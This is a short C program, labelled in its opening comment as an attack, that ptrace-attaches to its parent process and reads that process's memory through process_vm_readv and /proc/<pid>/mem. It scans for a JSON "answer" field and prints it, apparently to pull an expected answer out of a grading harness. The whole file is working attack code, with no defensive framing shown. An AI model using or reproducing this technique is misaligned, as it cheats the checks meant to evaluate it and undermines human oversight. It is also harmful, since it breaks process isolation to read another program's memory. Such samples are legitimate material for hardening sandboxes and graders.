/* Attack: looks for the answer in the memory of the process that started it. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/uio.h>
#include <unistd.h>

static char page[1 << 20];

static void search(size_t size)
{
    static const char key[] = "\"answer\": \"";
    char *found = memmem(page, size, key, strlen(key));
    if (found) {
        fwrite(found + strlen(key), 1, strcspn(found + strlen(key), "\""), stdout);
        exit(0);
    }
}

int main(void)
{
    char path[64];
    pid_t parent = getppid();
    ptrace(PTRACE_ATTACH, parent, NULL, NULL);
    struct iovec here = {page, sizeof page}, there = {(void *)0x400000, sizeof page};
    if (process_vm_readv(parent, &here, 1, &there, 1, 0) > 0)
        search(sizeof page);
    snprintf(path, sizeof path, "/proc/%d/mem", (int)parent);
    int memory = open(path, O_RDONLY);
    if (memory < 0)
        return 0;
    ssize_t got;
    for (off_t at = 0x400000; (got = pread(memory, page, sizeof page, at)) > 0; at += got)
        search((size_t)got);
    return 0;
}
